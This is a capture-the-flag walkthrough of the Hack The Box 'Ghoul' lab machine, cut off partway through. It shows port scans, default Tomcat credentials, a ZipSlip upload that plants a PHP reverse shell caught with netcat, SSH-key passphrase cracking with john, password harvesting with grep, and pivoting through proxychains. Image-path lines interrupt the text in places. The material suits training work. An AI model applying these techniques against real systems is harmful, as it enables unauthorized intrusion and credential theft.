Hackthebox – Ghoul

As with any machine, I start with a number of port scans. However the first scans returned without much result so I added the box name to my /etc/hosts and scanned again, not expecting any different result. Surprisingly, it came back with more results now!

root@kalivm:~/Ghoul# nmap -A -oN fullscan-A ghoul.htb
Starting Nmap 7.80 ( https://nmap.org ) at 2019-09-14 10:10 CEST
Nmap scan report for ghoul.htb (
Host is up (0.018s latency).
Not shown: 996 closed ports
22/tcp   open  ssh     OpenSSH 7.6p1 Ubuntu 4ubuntu0.1 (Ubuntu Linux; protocol 2.0)
| ssh-hostkey:
|   2048 c1:1c:4b:0c:c6:de:ae:99:49:15:9e:f9:bc:80:d2:3f (RSA)
|_  256 a8:21:59:7d:4c:e7:97:ad:78:51:da:e5:f0:f9:ab:7d (ECDSA)
80/tcp   open  http    Apache httpd 2.4.29 ((Ubuntu))
|_http-server-header: Apache/2.4.29 (Ubuntu)
|_http-title: Aogiri Tree
2222/tcp open  ssh     OpenSSH 7.6p1 Ubuntu 4ubuntu0.2 (Ubuntu Linux; protocol 2.0)| ssh-hostkey:
|   2048 63:59:8b:4f:8d:0a:e1:15:44:14:57:27:e7:af:fb:3b (RSA)
|   256 8c:8b:a0:a8:85:10:3d:27:07:51:29:ad:9b:ec:57:e3 (ECDSA)
|_  256 9a:f5:31:4b:80:11:89:26:59:61:95:ff:5c:68:bc:a7 (ED25519)
8080/tcp open  http    Apache Tomcat/Coyote JSP engine 1.1
| http-auth:
| HTTP/1.1 401 Unauthorized\x0D
|_  Basic realm=Aogiri
|_http-server-header: Apache-Coyote/1.1
|_http-title: Apache Tomcat/7.0.88 - Error report
Nmap done: 1 IP address (1 host up) scanned in 21.08 seconds

So we have ports 22 and 2222 serving SSH, and port 80 and 8080 for HTTP, just with different web servers. After some poking around on the website hosted at port 80, I do not see much of interest yet.

A normal web page, containing anime picturesA secret.php file which contains a fake user flag. Nothing of much interest, so I continue to the page on port 8080 which appears to be password protected.

However if I try one of the most common combinations, we find out quickly that username: admin, and password: admin work!

A’Sierra’ website is displayed which immediately presents upload capabilities. the only question is where these files are uploaded to.

After uploading, a page is displayed that thanks me for uploading, but I still cannot figure out where. After asking around on Discord, I got the tip that I should look for the ZipSlip vulnerability. One google query further, and there was possible way to upload files to a location that is under my control, so I prepared a file with a regular PHP Reverse webshell.

root@kalivm:~/Ghoul# unzip -l sedje.zip
Archive:  sedje.zip
  Length      Date    Time    Name
---  --- -----   ----
     3461  2019-09-14 10:33   ../../../../../../../../../../../../../../../../../../../var/www/html/shell.php
---                     ---
     3461                     2 files

After a final check to see if the zip file was created with the right file and a lot of ../ calls in it, I uploaded it to the server, called it with the browser and…

root@kalivm:~/Ghoul# nc -nlvp 9999
Listening on [] (family 2, port 9999)
Listening on 9999
Connection received on 59220
Linux Aogiri 4.15.0-45-generic #48-Ubuntu SMP Tue Jan 29 16:28:13 UTC 2019 x86_64 x86_64 x86_64 GNU/Linux
 17:18:43 up 25 min,  0 users,  load average: 0.37, 0.32, 0.42
USER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT
uid=33(www-data) gid=33(www-data) groups=33(www-data)
/bin/sh: 0: can't access tty; job control turned offNow I’ve got a shell as www-data! Time to enumerate more to see how I can get the user flag!

$ ls -al /home
total 36
drwxr-xr-x 1 root   root   4096 Dec 13  2018 .
drwxr-xr-x 1 root   root   4096 Dec 13  2018 ..
drwx--- 1 Eto    Eto    4096 Dec 13  2018 Eto
drwx--- 1 kaneki kaneki 4096 Dec 13  2018 kaneki
drwx--- 1 noro   noro   4096 Dec 13  2018 noro

Wait… there are three user directories and none of them are even readable. Time for more enumeration. After a lot of searching, and finding some interesting directories such as

www-data@Aogiri:/$ ls /var/tmp
ls /var/tmp
angecrypt.py  edited_NSA-Report.pdf  f.zip  hunt.zip  k.zip  sedje.zip  txt

/var/tmp which, amongst others, contained the uploaded .zip files and some weird python script and a PDF file. However, upon further inspection, none of them were really interesting. The /var/backups directory on the other hand, contained a subdirectory with some interesting things.

ls /var/backups/backups
Important.pdf  keys  note.txt  sales.xlsx
www-data@Aogiri:/$ cat/var/backups/backups/note.txt
cat /var/backups/backups/note.txt
The files from our remote server Ethereal will be saved here. I'll keep updating it overtime, so keep checking.

Files from a remote server, and a keys directory?

www-data@Aogiri:/$ head /var/backups/backups/keys/*
head /var/backups/backups/keys/*
==> /var/backups/backups/keys/eto.backup < ==
==> /var/backups/backups/keys/kaneki.backup < ==
Proc-Type: 4,ENCRYPTED
DEK-Info: AES-128-CBC,9E9E4E88793BC9DB54A767FC0216491F


==> /var/backups/backups/keys/noro.backup < ==

The keys directory appeared to contain the private keys of the Eto, kaneki and noro users on this box! Lets try each of them to see if I can get a user flag there!

root@kalivm:~/Ghoul# ssh -i eto.key Eto@
Eto@Aogiri:~$ ls
Eto@Aogiri:~$ cat alert.txt
Hey Noro be sure to keep checking the humans for IP logs and chase those little shits down!

User Eto, no luck. After spending some additional time, I could not find anything useful to escalate privileges either, so on to the next user for now.

root@kalivm:~/Ghoul# ssh -i kaneki.key kaneki@
Enter passphrase for key 'kaneki.key':

A pass phrase? Since the entire box is anime themed, my first guess was that a regular wordlist would not suffice, so I decided to use cewl to create a wordlist of all pages and see if that would contain anything useful.After having used ssh2john before, as written in this article, it was a piece of cake to do this again.

root@kalivm:~/Ghoul# python /usr/share/john/ssh2john.py kaneki.key > kaneki.hash
root@kalivm:~/Ghoul# john --wordlist=./ghoulwl.txt kaneki.hash --format=SSH
Using default input encoding: UTF-8
Loaded 1 password hash (SSH [RSA/DSA/EC/OPENSSH (SSH private keys) 32/64])Cost 1 (KDF/cipher [0=MD5/AES 1=MD5/3DES 2=Bcrypt/AES]) is 0 for all loaded hashes
Cost 2 (iteration count) is 1 for all loaded hashes
Will run 4 OpenMP threads
Note: This format may emit false positives, so it will keep trying even after
finding a possible candidate.
Press 'q' or Ctrl-C to abort, almost any other key for status
ILoveTouka       (kaneki.key)
1g 0:00:00:00 DONE (2019-09-17 19:36) 2.777g/s 1036p/s 1036c/s 1036C/s remote..moment
Session completed

So the password is ILoveTouka! Lets try that again on the key and see if I can get access.

root@kalivm:~/Ghoul# ssh -i kaneki.key kaneki@
Enter passphrase for key 'kaneki.key':
Last login: Tue Sep 17 17:36:40 2019 fromkaneki@Aogiri:~$ ls
note.txt  notes  secret.jpg  user.txt
kaneki@Aogiri:~$ cat user.txt

And there is the user flag!

Privilege Escalation

After quite some post-exploitation of the different user accounts, several interesting items were found. These things included a password

kaneki@Aogiri:~$ grep -ir 'password=' / 2> /dev/null
/usr/share/tomcat7/conf/tomcat-users.xml:  <!--<user username="admin" password="test@aogiri123" roles="admin" />Some more notes in user Kaneki’s home directory

kaneki@Aogiri:~$ catnotes
I've set up file server into the server's network ,Eto if you need to transfer files to the server can use my pc.
DM me for the access.
kaneki@Aogiri:~$ cat note.txt
Vulnerability in Gogs was detected. I shutdown the registration function on our server, please ensure that no one gets access to the test accounts.

A reference to a ssh user called kaneki_pub in user Kaneki’s .ssh/authorized_keys file

kaneki@Aogiri:~$ cat .ssh/authorized_keys
ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDhK6T0d7TXpXNf2anZ/02E0NRVKuSWVslhHaJjUYtdtBVxCJg+wv1oFGPij9hgefdmFIKbvjElSr+rMrQpfCn6v7GmaP2QOjaoGPPX0EUPn9swnReRgi7xSKvHzru/ESc9AVIQIaeTypLNT/FmNuyr8P+gFLIq6tpS5eUjMHFyd68SW2shb7GWDM73tOAbTUZnBv+z1fAXv7yg2BVl6rkknHSmyV0kQJw5nQUTm4eKq2AIYTMB76EcHc01FZo9vsebBnD0EW4lejtSI/SRC+YCqqY+L9TZ4cunyYKNOuAJnDXncvQI8zpE+c50k3UGIatnS5f2MyNVn1l1bYDFQgYl kaneki_pub@kaneki-pc
ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDsiPbWC8feNW7o6emQUk12tFOcucqoS/nnKN/LM3hCtPN8r4by8Ml1IR5DctjeurAmlJtXcn8MqlHCRbR6hZKydDwDzH3mb6M/gCYm4fD9FppbOdG4xMVGODbTTPV/h2Lh3ITRm+xNHYDmWG84rQe++gJImKoREkzsUNqSvQv4rO1RlO6W3rnz1ySPAjZF5sloJ8Rmnk+MK4skfj00Gb2mM0/RNmLC/rhwoUC+Wh0KPkuErg4YlqD8IB7L3N/UaaPjSPrs2EDeTGTTFI9GdcT6LIaS65CkcexWlboQu3DDOM5lfHghHHbGOWX+bh8VHU9JjvfC8hDN74IvBsy120N5 kaneki@Aogiri

To actually elevate my privileges to root, there was not much more to find on this system. There was only one additional thing that was interesting

kaneki@Aogiri:~$ ifconfig
eth0: flags=4163  mtu1500
        inet  netmask  broadcast
        ether 02:42:ac:14:00:0a  txqueuelen 0  (Ethernet)
        RX packets 8184  bytes 922145 (922.1 KB)
        RX errors 0  dropped 0  overruns 0  frame 0
        TX packets 7973  bytes 979896 (979.8 KB)
        TX errors 0  dropped 0 overruns 0  carrier 0  collisions 0

The IP address is not the address, but a address. So there are at least two other systems, one of them runs Gogs? (Let’s hope it is not Hackthebox – Craft all over again…) and it is reachable through Kaneki’s pc which, apparently is calledkaneki-pc and has a user called kaneki_pub.

Time to start doing some reconnaissance on by pivoting around to Aogiri. Knowing that this can be done by using proxychains, still required me to do some research on it since I barely ever use it, but this article was located quickly and a short edit to the proxychains conf was required

root@kalivm:~/Ghoul# cat /etc/proxychains.conf
# proxychains.conf  VER 3.1
tcp_read_time_out 15000
tcp_connect_time_out 8000
socks5 9000

A new SSH session was created with dynamic forwarding

root@kalivm:~/Ghoul# ssh -i kaneki.key kaneki@ -D 9000Enter passphrase for key 'kaneki.key':
Last login: Tue Sep 17 17:47:56 2019 from

Now I could use proxychains to start a portscan on the range.

root@kalivm:~/Ghoul# proxychains nmap -sP
ProxyChains-3.1 (http://proxychains.sf.net)
Starting Nmap 7.80 ( https://nmap.org ) at 2019-09-17 19:53 CEST
Nmap done: 256 IP addresses (0 hosts up) scanned in251.33 seconds

No hosts up? I must have made a mistake somewhere

root@kalivm:~/Ghoul# proxychains nmap -n -sT -Pn -p 22 --open
ProxyChains-3.1 (http://proxychains.sf.net)
Starting Nmap 7.80 ( https://nmap.org ) at 2019-09-17 20:58 CEST
Nmap scan report for
Host is up (0.017s latency).

22/tcp open  ssh
Nmap scan report for
Host is up (0.017s latency).

22/tcp open  ssh
Nmap scan report for
Host is up (0.016s latency).

22/tcp open  ssh

Nmap done: 256 IP addresses (256 hosts up) scanned in 775.63 seconds

So 3 hosts are alive, .1 is most likely the host itself (just like .10) so I start to focus on .150. Let’s first try to log in over ssh.

kaneki@Aogiri:~$ ssh kaneki_pub@
Enter passphrase for key '/home/kaneki/.ssh/id_rsa':
Last login: Sun Jan 20 12:43:37 2019 from

That simple? Really? Password for the SSH key re-used on this key. Nice and very common in the real world too! But now what. The home directory shows a to-do.txt with additional information.

kaneki_pub@kaneki-pc:~$ ls
kaneki_pub@kaneki-pc:~$ cat to-do.txt
Give AogiriTest user access to Eto for git.

So now I have a username for git! But what about the password. Well, what about the git system, where is it located? The note on Aogiri said that it would be accessible through this system.
After some reconnaissance on the box, I looked at the netstat output at just the right moment

kaneki_pub@kaneki-pc:~$ netstat -ano
Active Internet connections (servers and established)
Proto Recv-Q Send-Q Local Address           Foreign Address         State       Timer
tcp        0      0*               LISTEN      off (0.00/0/0)
tcp        0      0    *               LISTEN      off (0.00/0/0)
tcp        0      0         TIME_WAIT   timewait (0.00/0/0)
tcp        0      0       ESTABLISHED keepalive (7087.09/0/0)tcp        0      0       ESTABLISHED keepalive (6730.84/0/0)
tcp6       0      0 :::22                   :::*                    LISTEN      off (0.00/0/0)
udp        0      0*                           off (0.00/0/0)

Apparently there is a connectino from through this system on port 2222, but after a few seconds it was gone again. Interesting but not the most useful at this moment. Time for more recon and to chain some more ssh connections together to analyze the 172.18 segment!

Actually, this caused me quite some headache. The moment I changed the /etc/proxychains.conf file while using proxychains, it appeared that the current connections were also affected (i.e. disconnected). So after reading the man pages of proxychains, I found this entry

       proxychains looks for config file in following order:
       see more in /etc/proxychains.conf

So I created an additional directory called px and copied the proxychains.conf there and adjusted it for the second connection on port 10000.

root@kalivm:~/px# mkdir px
root@kalivm:~/Ghoul# cd px/root@kalivm:~/Ghoul/px# cp /etc/proxychains.conf .
root@kalivm:~/Ghoul/px# sed -i 's/9000/10000/g' proxychains.conf
root@kalivm:~/Ghoul/px# cat proxychains.conf
# proxychains.conf  VER 3.1
tcp_read_time_out 15000
tcp_connect_time_out 8000
socks5 10000

